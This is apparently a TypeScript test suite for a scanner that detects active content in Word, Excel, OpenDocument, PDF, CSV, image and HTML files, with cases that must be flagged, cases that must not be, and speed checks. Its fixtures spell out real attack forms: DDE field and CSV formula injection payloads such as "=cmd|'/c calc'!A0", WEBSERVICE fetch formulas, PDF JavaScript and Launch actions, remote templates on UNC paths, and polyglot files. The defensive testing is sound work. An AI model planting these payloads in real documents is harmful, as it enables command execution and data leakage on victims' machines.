import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { test } from 'node:test';
import { docx, p, r, relationship, relationships, xlsx } from '../../../test/office.ts';
import { ods, odt, op, otbl, otc, otr } from '../../../test/open.ts';
import { zip } from '../../../test/zip.ts';
import { judge } from './active.ts';

const text = p(r('A plan'));
const external = (kind: string, target: string) => ({ relationships: relationship('x1', kind, target, 'External') });
const settings = (target: string) => ({
  files: { 'word/_rels/settings.xml.rels': relationships(relationship('x1', 'attachedTemplate', target, 'External')) },
});
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const part = (body: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
const instr = (words: string, element = 'instrText') => `<w:r><w:${element}>${words}</w:${element}></w:r>`;
const field = (...words: readonly string[]) =>
  p(mark('begin') + words.map((each) => instr(each)).join('') + mark('separate') + r('x') + mark('end'));
const cell = (formula: string) => ({ data: `<row r="4"><c r="B4"><f>${formula}</f><v>1</v></c></row>` });
const sheet = { data: '<row r="1"><c r="A1"><v>1</v></c></row>' };
const formula = (words: string) => ods(otbl(otr(otc('1', `table:formula="${words}"`))));
const pdf = (...objects: readonly string[]) =>
  Buffer.from(
    `%PDF-1.7\n${objects.map((each, at) => `${at + 1} 0 obj ${each} endobj\n`).join('')}trailer << /Root 1 0 R >>\n%%EOF`,
    'latin1',
  );
const stream = (dictionary: string, bytes: Buffer) =>
  `<< ${dictionary} /Length ${bytes.length} >> stream\n${bytes.toString('latin1')}\nendstream`;
const packed = (objects: string) => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`7 0 ${objects}`)));
const openedAtOnce = (...objects: readonly string[]) => pdf('<< /OpenAction 2 0 R >>', ...objects);
const chunk = (kind: string) => Buffer.concat([Buffer.alloc(4), Buffer.from(kind), Buffer.alloc(4)]);
const png = (...behind: readonly Buffer[]) =>
  Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IDAT'), chunk('IEND'), ...behind]);
const jpg = (...behind: readonly Buffer[]) => Buffer.concat([Buffer.from('ffd8ffe0000000ffd9', 'hex'), ...behind]);
const hidden = Buffer.from(zip([{ name: 'a.txt', data: 'a' }]));
const words = (all: string) => Buffer.from(all);

const ACTIVE: readonly (readonly [what: string, name: string, bytes: Uint8Array, said: RegExp])[] = [
  ['a field that starts a program', 'a.docx', docx(field(' DDE', 'AUTO cmd x ')), /DDE/],
  ['a field glued to its quotes', 'a.docx', docx(field('DDEAUTO"c:\\\\x" y')), /DDE/],
  ['a simple field that starts a program', 'a.docx', docx(p('<w:fldSimple w:instr=" dde excel x"/>')), /DDE/],
  ['a deleted field that starts a program', 'a.docx', docx(p(mark('begin') + instr('DDE excel x', 'delInstrText') + mark('end'))), /DDE/],
  ['a field that is never closed', 'a.docx', docx(p(mark('begin') + instr('DDE excel x'))), /DDE/],
  [
    'a field within a field',
    'a.docx',
    docx(p(mark('begin') + instr('IF 1 = 1 ') + mark('begin') + instr('INCLUDETEXT "http://example.org/x"') + mark('end') + mark('end'))),
    /http:\/\/example\.org\/x/,
  ],
  [
    'a field whose instruction comes from another',
    'a.docx',
    docx(
      p(mark('begin') + mark('begin') + instr('QUOTE 68 68 69') + mark('separate') + r('DDE') + mark('end') + instr(' cmd') + mark('end')),
    ),
    /hidden/,
  ],
  [
    'a picture by a field',
    'a.docx',
    docx(field('INCLUDEPICTURE "\\\\\\\\server\\\\x.png" \\d')),
    /fetches a picture from \\\\server\\x\.png \(in its text\)/,
  ],
  [
    'a picture by a field whose backslashes stand alone',
    'a.docx',
    docx(field('INCLUDEPICTURE "\\\\server\\x.png"')),
    /fetches a picture from/,
  ],
  [
    'a picture by a field in a header',
    'a.docx',
    docx(text, { parts: { header: field('INCLUDEPICTURE "https://example.org/x.png"') } }),
    /in a header/,
  ],
  ...[
    'LINK Excel.Sheet.8 "C:\\\\x.xlsx"',
    'INCLUDETEXT "C:\\\\x.docx"',
    'IMPORT "http://example.org/x.png"',
    'RD "C:\\\\x.docx"',
    'INCLUDE x',
    'DATABASE \\d "x"',
    'PRINT 27',
  ].map((each) => [`the field ${each}`, 'a.docx', docx(field(each)), /another file|picture|database|printer/] as const),
  ...[
    'http://example.org/x.png',
    '\\\\server\\x.png',
    '//server/x.png',
    'file://server/x.png',
    'file:///\\\\server\\x.png',
    'file:////server/x.png',
    'file:///%5C%5Cserver/x.png',
    'ftp://server/x.png',
  ].map((each) => [`a picture at ${each}`, 'a.docx', docx(text, external('image', each)), /fetches a picture from/] as const),
  [
    'a picture elsewhere that does not say so',
    'a.docx',
    docx(text, { relationships: relationship('x1', 'image', 'https://example.org/x.png') }),
    /picture/,
  ],
  [
    'a picture of VML',
    'a.docx',
    docx(p('<w:r><w:pict><v:shape><v:imagedata src="https://example.org/x.png"/></v:shape></w:pict></w:r>')),
    /example\.org/,
  ],
  ['a template on another computer', 'a.docx', docx(text, settings('\\\\server\\t.dotm')), /template/],
  ...['frame', 'subDocument', 'video', 'mailMergeSource', 'aFChunk', 'oleObject', 'externalLinkPath'].map(
    (kind) =>
      [
        `a ${kind} elsewhere`,
        'a.docx',
        docx(text, external(kind, 'http://example.org/x')),
        /elsewhere|part of itself|inside|another file/,
      ] as const,
  ),
  ['another document inside', 'a.docx', docx(text, { relationships: relationship('x1', 'aFChunk', 'chunk.html') }), /inside/],
  [
    'letters sent to many',
    'a.docx',
    docx(text, {
      files: { 'word/settings.xml': '<w:settings xmlns:w="x"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>' },
    }),
    /values/,
  ],
  ['macros', 'a.docx', docx(text, { files: { 'word/vbaProject.bin': 'x' } }), /macros/],
  ['macros by the type', 'a.docx', docx(text, { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), /macros/],
  ['a control', 'a.docx', docx(text, { files: { 'word/activeX/activeX1.xml': 'x' } }), /controls/],
  ['an object inside', 'a.docx', docx(text, { files: { 'word/embeddings/oleObject1.bin': 'x' } }), /inside/],
  ['buttons of its own', 'a.docx', docx(text, { files: { 'customUI/customUI14.xml': '<x/>' } }), /buttons/],
  ['an add-in', 'a.docx', docx(text, { files: { 'word/webextensions/taskpanes.xml': '<x/>' } }), /add-in/],
  ['macro sheets', 'a.xlsx', xlsx([sheet], { files: { 'xl/macrosheets/sheet1.xml': '<x/>' } }), /macros/],
  ['another workbook', 'a.xlsx', xlsx([sheet], { files: { 'xl/externalLinks/externalLink1.xml': '<x/>' } }), /another file/],
  ['a connection', 'a.xlsx', xlsx([sheet], { files: { 'xl/connections.xml': '<x/>' } }), /somewhere else/],
  ['a formula that fetches', 'a.xlsx', xlsx([cell('_xlfn.WEBSERVICE("http://example.org")')]), /WEBSERVICE\) \(cell B4\)/],
  ['a formula that shows a picture', 'a.xlsx', xlsx([cell('IF(A1=1,_xlfn.IMAGE(A2))')]), /IMAGE/],
  ['a formula that starts a program', 'a.xlsx', xlsx([cell("cmd|'/c calc'!A0")]), /DDE/],
  ['a formula that opens a file elsewhere', 'a.xlsx', xlsx([cell('HYPERLINK("\\\\server\\x","x")')]), /another computer/],
  ['a formula of another workbook', 'a.xlsx', xlsx([cell("'\\\\server\\[x.xlsx]A'!A1")]), /another file/],
  [
    'a name that fetches',
    'a.xlsx',
    xlsx([sheet], { workbook: '<definedNames><definedName name="x">WEBSERVICE("http://example.org")</definedName></definedNames>' }),
    /WEBSERVICE/,
  ],
  ['macros of OpenDocument', 'a.odt', odt(op('x'), { files: { 'Basic/Standard/Module1.xml': '<x/>' } }), /macros/],
  [
    'an event that starts a macro',
    'a.odt',
    odt('<script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'),
    /program/,
  ],
  ['a link that starts a macro', 'a.odt', odt(op('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')), /program/],
  [
    'a picture elsewhere in OpenDocument',
    'a.odt',
    odt(op('<draw:frame><draw:image xlink:href="https://example.org/x.png"/></draw:frame>')),
    /picture from https:\/\/example\.org/,
  ],
  ['a picture elsewhere in its headers', 'a.odt', odt(op('x'), { masters: '<draw:image xlink:href="//server/x.png"/>' }), /headers/],
  [
    'a section of another file',
    'a.odt',
    odt('<text:section text:name="x"><text:section-source xlink:href="../x.odt"/></text:section>'),
    /another file/,
  ],
  ['an object of another kind', 'a.odt', odt(op('x'), { files: { 'Object 1': 'x' } }), /inside/],
  [
    'cells of another file',
    'a.ods',
    ods(otbl(otr('<table:table-cell><table:cell-range-source xlink:href="http://example.org/x"/></table:table-cell>'))),
    /another program or file/,
  ],
  ['DDE of OpenDocument', 'a.ods', ods('<table:dde-links/>'), /another program/],
  ['a formula of OpenDocument that fetches', 'a.ods', formula('of:=WEBSERVICE(&quot;http://example.org&quot;)'), /WEBSERVICE/],
  ['a formula of OpenDocument that starts a program', 'a.ods', formula('of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)'), /DDE/],
  ['a formula of another sheet', 'a.ods', formula("of:=['file://server/x.ods'#$A.A1]"), /another file/],
  ['a script in a PDF', 'a.pdf', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), /script/],
  ['a script whose name is written in numbers', 'a.pdf', pdf('<< /OpenAction << /S /J#61vaScript /J#53 (x) >> >>'), /script/],
  ['a script in an object stream', 'a.pdf', pdf(packed('<< /S /JavaScript /JS (x) >>')), /script/],
  ['a script hidden in what looks like a stream', 'a.pdf', pdf('<< >> stream 9 0 obj << /S /JavaScript >> endobj'), /script/],
  ['a script hidden behind a text that never ends', 'a.pdf', pdf('(', '<< /S /JavaScript >>'), /script/],
  ['a program in a PDF', 'a.pdf', pdf('<< /S /Launch /F (cmd.exe) >>'), /program/],
  ['a file in a PDF', 'a.pdf', pdf(stream('/Type /EmbeddedFile', Buffer.from('x'))), /inside/],
  ['a form that runs programs', 'a.pdf', pdf('<< /AcroForm << /XFA 2 0 R >> >>'), /XFA/],
  ['a form that sends', 'a.pdf', pdf('<< /S /SubmitForm /F (http://example.org) >>'), /sends/],
  ['a film in a PDF', 'a.pdf', pdf('<< /Subtype /RichMedia >>'), /films/],
  ['a PDF that opens a page at once', 'a.pdf', pdf('<< /OpenAction 2 0 R >>', '<< /S /URI /URI (http://example.org) >>'), /opens another/],
  [
    'a PDF that opens a file when its page is shown',
    'a.pdf',
    pdf('<< /AA << /O 2 0 R >> >>', '<< /S /GoTo /Next 3 0 R >>', '<< /S /GoToR /F (\\\\\\\\server\\\\x) >>'),
    /opens another/,
  ],
  ['a PDF that is locked', 'a.pdf', pdf('<< >>', '<< /Encrypt 9 0 R >>'), /locked/],
  ['a PDF that is an archive too', 'a.pdf', Buffer.concat([pdf('<< >>'), hidden]), /two kinds/],
  ['a picture that is an archive too', 'a.png', png(hidden), /two kinds/],
  ['a picture with a page behind it', 'a.png', png(words('<script>')), /hidden/],
  ['a photograph that is an archive too', 'a.jpg', jpg(hidden), /two kinds/],
  ['a photograph with a page behind it', 'a.jpg', jpg(words('<html><script>')), /hidden/],
  ['values that start a program', 'a.csv', words("name,day\nAnn,=cmd|'/c calc'!A0"), /DDE\) \(row 2\)/],
  ['values that fetch', 'a.csv', words('name;day\nAnn;"=WEBSERVICE(""http://example.org/""&A1)"'), /WEBSERVICE/],
  ['values that fetch behind a full-width sign', 'a.csv', words('\uff1dIMPORTXML("http://example.org","x")'), /IMPORTXML/],
  ...['dat', 'real'].map(
    (end) =>
      [
        `a field in a part whose name ends in ${end}`,
        'a.docx',
        docx(text, { files: { [`word/${end}`]: `\ufeff ${part(field('DDEAUTO cmd x'))}` } }),
        /DDE/,
      ] as const,
  ),
  [
    'a formula in a part of another name',
    'a.xlsx',
    xlsx([sheet], { files: { 'other/sheet.dat': '<worksheet><c r="A1"><f>WEBSERVICE("http://example.org")</f></c></worksheet>' } }),
    /WEBSERVICE/,
  ],
  ['a formula that another element parts', 'a.xlsx', xlsx([cell('WEBSER<z/>VICE("http://example.org")')]), /WEBSERVICE/],
  ['a formula that starts a program with no item', 'a.xlsx', xlsx([cell("MSEXCEL|'\\..\\cmd.exe'!''")]), /DDE/],
  ['a formula that starts a program behind a mark in the name of a sheet', 'a.xlsx', xlsx([cell(`'a"'!A1+cmd|'/c "x'!A0`)]), /DDE/],
  [
    'a picture of OpenDocument in a part of another name',
    'a.odt',
    odt(op('x'), { files: { other: '<x><draw:image xlink:href="https://example.org/x.png"/></x>' } }),
    /picture/,
  ],
  ['a script behind a bracket in a comment', 'a.pdf', pdf('% (\n<< /S /JavaScript /JS 5 0 R >> % )\n'), /script/],
  ['a script behind an object in a comment', 'a.pdf', pdf('<< /S % 9 0 obj (\n/JavaScript /JS 5 0 R >> % )\n'), /script/],
  ...['<< /A (stream) /S /JavaScript >>', '<< /stream 1 /S /JavaScript >>', '%stream\n<< /S /JavaScript >>'].map(
    (each) => [`a script behind what is no stream, ${each}`, 'a.pdf', pdf(each), /script/] as const,
  ),
  [
    'a script in an object stream that does not say so',
    'a.pdf',
    pdf(stream('/N 1 /First 4 /Filter [/FlateDecode]', deflateSync(Buffer.from('7 0 << /S /JavaScript >>')))),
    /script/,
  ],
  ...['<< /S 3 0 R /F (x) >>', `<<${' '.repeat(200)}/S%(\n/GoToR /F (%) >>`].map(
    (each) => [`a PDF that opens a file at once by ${each.trim()}`, 'a.pdf', openedAtOnce(each, '/GoToR'), /opens another/] as const,
  ),
  [
    'objects that a stream lists out of order',
    'a.pdf',
    openedAtOnce('null', stream('/Type /ObjStm /N 2 /First 8', Buffer.from('2 5 8 0 null << /S /GoToR >>'))),
    /opens another/,
  ],
  ...[
    "=MSEXCEL|'\\..\\cmd.exe'!''",
    "=cmd|'/c x'!'A0'",
    "=cmd|'/c ''x'''!A0",
    `=cmd|'/c ${'x'.repeat(400)}'!A0`,
    "=cmd|'/c x'! A0",
    "=cmd|'/c x'!é1",
    "=cmd|'/c x'!#REF!",
    `"=cmd|'/c x\ny'!A0"`,
    "@SUM(1+1)*cmd|' /c x'!A0",
    "-2+3+cmd|'/c x'!A0",
    '+cmd|x!A0',
    "sep=^\nx^=cmd|'/c x'!A0",
  ].map((each) => [`values that start a program by ${each.slice(0, 40)}`, 'a.csv', words(each), /DDE/] as const),
  ...['WEBSERVICE ("http://example.org")', 'WEBSERVICE(("http://example.org"))', 'WEBSERVICE(+A1)', "WEBSERVICE('S 1'!A1)", 'CALL(x)'].map(
    (each) => [`values that fetch by ${each}`, 'a.csv', words(`"=${each.replaceAll('"', '""')}"`), /fetches/] as const,
  ),
  ...['"\\"&"\\server\\x"', '"http://example.org/?"&A1', 'A1'].map(
    (each) =>
      [
        `values with a link that is put together, ${each}`,
        'a.csv',
        words(`"=HYPERLINK(${each.replaceAll('"', '""')},""x"")"`),
        /opens a file/,
      ] as const,
  ),
  ['values of a workbook on another computer', 'a.csv', words('x,=\\\\server\\share\\x.xlsx!A1'), /another file/],
  ['a page with a script', 'a.html', words('<!doctype html><p>A plan<script>x</script>'), /script/],
  ['a page under an old name that fetches', 'a.doc', words('<html><body><p>A plan<img src="\\\\server\\x.png">'), /server/],
  [
    'a page that fetches by its style',
    'a.html',
    words('<!doctype html><style>p{background:url(https://example.org/x)}</style><p>A plan'),
    /elsewhere/,
  ],
  ['a page that reacts', 'a.html', words('<!doctype html><p onmouseover="x">A plan'), /script/],
  ['words that are run by their name', 'a.hta', words('A plan'), /\.hta/],
];

for (const [what, name, bytes, said] of ACTIVE) {
  test(`${what} is found`, async () => {
    const { active, unreadable } = await judge(bytes, name);
    assert.equal(unreadable, null);
    assert.ok(active, 'nothing was found');
    assert.match(`${active.what} (${active.where})`, said);
    assert.match(active.mend, /^[A-Z].*\.$/);
  });
}

const QUIET: readonly (readonly [what: string, name: string, bytes: Uint8Array])[] = [
  [
    'links that people follow',
    'a.docx',
    docx(p('<w:hyperlink r:id="x1"/>') + field('HYPERLINK "https://example.org"'), external('hyperlink', 'https://example.org/')),
  ],
  ['fields that compute', 'a.docx', docx(field(' PAGE ') + field('TOC \\o "1-3"') + field('DATE \\@ "d MMM"') + field('REF link'))],
  ['a picture of the same computer', 'a.docx', docx(field('INCLUDEPICTURE "C:\\\\x.png"'), external('image', 'file:///C:\\x.png'))],
  ['a picture out of a mail', 'a.docx', docx(field('INCLUDEPICTURE "cid:image001.png@01D9" \\* MERGEFORMATINET'))],
  ['a template of the same computer', 'a.docx', docx(text, settings('file:///C:\\Templates\\Normal.dotm'))],
  ['a document that speaks of DDE', 'a.docx', docx(p(r('DDE cmd, INCLUDETEXT "http://x"')))],
  ['formulas that compute', 'a.xlsx', xlsx([cell('SUM(A1:A3)&amp;"WEBSERVICE("&amp;HYPERLINK("https://example.org","x")&amp;A!B1')])],
  [
    'an OpenDocument text with links and a picture of its own',
    'a.odt',
    odt(
      op(
        '<text:a xlink:href="https://example.org">x</text:a><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>',
      ),
      { files: { 'Object 1/content.xml': '<x/>' } },
    ),
  ],
  ['a formula of OpenDocument', 'a.ods', formula('of:=SUM([.A1:.B2])')],
  [
    'a PDF with links',
    'a.pdf',
    pdf(
      '<< /OpenAction [2 0 R /Fit] >>',
      '<< /Type /Page /Annots [3 0 R] >>',
      '<< /A << /S /URI /URI (https://example.org/JavaScript/Launch) >> >>',
    ),
  ],
  [
    'a PDF that opens at a page',
    'a.pdf',
    pdf('<< /OpenAction 2 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>', '<< /Type /Page /Annots [4 0 R] >>', '<< /S /URI /URI (x) >>'),
  ],
  ['a PDF whose pictures spell anything', 'a.pdf', pdf(stream('/Filter /DCTDecode', Buffer.from('/JS /Launch')))],
  ['a picture', 'a.png', png(Buffer.alloc(8))],
  ['a photograph with a preview behind it', 'a.jpg', jpg(jpg())],
  ['values with signs and formulas that compute', 'a.csv', words('a,b\n-5,+44 20 7946\n=1+1,"=""0123"""\n- image(s) to replace,@lead')],
  [
    'notes that begin with a sign',
    'a.csv',
    words(
      '- see page 3 | done!,- call (Ann) | soon!,"=> agreed | good!",- kept on \\\\server\\files,- register (page 2),@Ann | thanks\n"=HYPERLINK(""https://example.org/x"",""x"")"',
    ),
  ],
  ['a PDF that speaks of scripts', 'a.pdf', pdf('<< /Title (/JS \\) /Launch (stream) %) /Author <2f4a53> >> % /JavaScript\n')],
  ['a fraction', 'a.docx', docx(p('<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:t>n|k!</m:t></m:f>'))],
  ['words', 'a.txt', words('=cmd|x!A0 <script>')],
  [
    'a page of words',
    'a.html',
    words('<!doctype html><p><a href="https://example.org">A plan</a><img src="x.png"><img src="data:image/png;base64,x">'),
  ],
];

for (const [what, name, bytes] of QUIET) {
  test(`${what} may stay`, async () => assert.deepEqual(await judge(bytes, name), { active: null, unreadable: null }));
}

const UNSEEN: readonly (readonly [what: string, object: string])[] = [
  ['an object stream whose filter stands elsewhere', stream('/Type /ObjStm /N 1 /First 4 /Filter 6 0 R', Buffer.from('x'))],
  ['an object stream whose filter stands elsewhere in a list', stream('/N 1 /First 4 /Filter [6 0 R]', Buffer.from('x'))],
  ['an object stream that is packed twice', stream('/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', Buffer.from('x'))],
  ['an object stream whose beginning stands elsewhere', stream('/N 1 /First 6 0 R', Buffer.from('x'))],
  ['an object stream that cannot be unpacked', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('x'))],
  ['a stream within a dictionary', '<< /A << >> stream /S /X >>'],
];

for (const [what, object] of UNSEEN) {
  test(`${what} cannot be looked through, and that is said`, async () => {
    const { active, unreadable } = await judge(pdf(object), 'a.pdf');
    assert.equal(active, null);
    assert.match(unreadable ?? '', /keeps what is in it from being seen/);
  });
}

const LONG = 100_000;
const RUNS = [
  '(',
  '[',
  '<',
  '/',
  '%',
  '1 ',
  '\\',
  ' ',
  'stream',
  'endstream',
  '1 0 obj',
  '/AA<<',
  '/AA 1 0 R ',
  '"',
  "'",
  '|',
  '=',
  '\\\\',
  '-,',
  '=A(',
  "'|",
  '% 1 0 obj (',
  '1 0 obj (',
  '<< >> stream ',
  '=a|',
  '"&"',
  '<0',
];

for (const run of RUNS) {
  test(`a long run of ${JSON.stringify(run)} is looked through in a moment in every kind of file`, { timeout: 20_000 }, async () => {
    const long = run.repeat(LONG / run.length);
    for (const [name, bytes] of [
      ['a.pdf', `%PDF-1.7\n1 0 obj ${long}`],
      ['a.csv', long],
      ['a.csv', `=${long}`],
      ['a.html', `<!doctype html><p title="${long}">A plan`],
    ] as const)
      await judge(words(bytes), name);
    await judge(docx(field(long.replaceAll('<', '').replaceAll('&', ''))), 'a.docx');
    await judge(xlsx([cell(long.replaceAll('<', '').replaceAll('&', ''))]), 'a.xlsx');
  });
}
